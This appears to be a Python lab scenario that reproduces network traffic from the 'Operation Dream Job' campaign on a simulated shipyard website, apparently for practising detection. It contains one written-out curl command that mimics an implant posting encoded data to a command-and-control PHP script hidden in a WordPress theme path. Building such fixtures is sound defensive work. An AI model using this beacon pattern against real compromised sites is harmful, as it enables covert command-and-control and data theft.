# SPDX-License-Identifier: Apache-2.0
"""Operation Dream Job with borrowed servers: on a drone maker's network someone reads the web site of a
shipyard, which is harmless; an implant posts to one script on that same site, which is the C2. URL:
ESET, October 2025."""

START = "2025-10-23 12:20:30"
LAN = "10.42.5.0/24"
SITE, SCRIPT = "coralsunmarine.com", "/wp-content/themes/flatsome/inc/functions/function-hand.php"
SHOWS = {"dns": [SITE], "sni": [], "host": [SITE], "path": ["/", "/services/", SCRIPT]}


def play(lab):
    reader, engineer = lab.host("purchasing", 24), lab.host("uav-engineer", 25)
    lab.site(SITE, "192.0.2.130", {SCRIPT: "ok"}, 80, tls=None)
    with lab.recording():
        lab.browse(reader, f"http://{SITE}/", f"http://{SITE}/services/")
        lab.later(minutes=44)
        lab.curl(engineer, "-A", "", "-d", "b=25&c=QUFBQQ", f"http://{SITE}{SCRIPT}")
